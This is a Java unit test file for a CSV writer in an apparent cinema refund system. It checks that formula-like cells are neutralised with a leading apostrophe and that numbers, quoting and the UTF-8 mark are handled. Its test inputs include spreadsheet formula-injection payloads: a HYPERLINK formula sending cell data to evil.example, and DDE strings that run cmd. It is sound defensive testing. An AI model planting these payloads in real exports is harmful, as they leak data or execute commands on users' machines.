package org.cinemarefund.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    private static String row(Object... cells) throws IOException {
        var out = new StringBuilder();
        new Csv(out).row(cells);
        return out.toString();
    }

    /** The only cell of a line, as a reader of RFC 4180 gets it back. */
    private static String read(String line) {
        assertThat(line).startsWith("\uFEFF").endsWith("\r\n");
        var cell = line.substring(1, line.length() - 2);
        return cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"看这里\")",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "+86 755 12345601",
                "-1+1",
                "-2+3+cmd|' /C calc'!D2",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u00A0=1+1",
                "\u3000=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(A1)",
                "=\"a\"\r\n=\"b\"",
                "\t",
                "-",
                "\u0000=1+1",
            })
    void what_would_be_a_formula_is_a_text(String hostile) throws IOException {
        assertThat(read(row(hostile))).isEqualTo("'" + hostile);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "50000000382019052709732678859",
                "4200001234202611260000000001",
                "0012",
                "12E10",
                "1.5e-7",
                "2026-11-26",
                "1-2",
                "3/4",
                "10:30",
                "1,000",
                " 42 "
            })
    void what_would_become_another_number_or_a_date_stays_as_it_is_written(String number) throws IOException {
        assertThat(read(row(number))).isEqualTo("'" + number);
    }

    @ParameterizedTest
    @ValueSource(strings = {"RF20261126ABCD", "4200001234-1", "星光影城（南山店）", "a=b", "it's", "E10", "流浪地球 2"})
    void other_texts_are_left_alone(String text) throws IOException {
        assertThat(row(text)).isEqualTo("\uFEFF" + (text.equals("4200001234-1") ? "'" : "") + text + "\r\n");
    }

    @Test
    void commas_quotes_and_line_ends_are_quoted() throws IOException {
        assertThat(row("a,b", "say \"yes\"", "one\r\ntwo", "x;y"))
                .isEqualTo("\uFEFF\"a,b\",\"say \"\"yes\"\"\",\"one\r\ntwo\",\"x;y\"\r\n");
    }

    @Test
    void sums_and_times_are_values_and_what_is_missing_is_an_empty_cell() throws IOException {
        assertThat(row(new Csv.Plain("95.00"), null, 12L, new Csv.Plain("2026-11-26 08:00:00"), ""))
                .isEqualTo("\uFEFF95.00,,12,2026-11-26 08:00:00,\r\n");
    }

    @Test
    void the_mark_of_utf_8_stands_once_at_the_beginning() throws IOException {
        var out = new StringBuilder();
        var csv = new Csv(out);
        csv.row("一");
        csv.row("二");

        assertThat(out.toString()).isEqualTo("\uFEFF一\r\n二\r\n");
        assertThat(out.toString().getBytes(StandardCharsets.UTF_8)).startsWith(0xEF, 0xBB, 0xBF);
    }
}
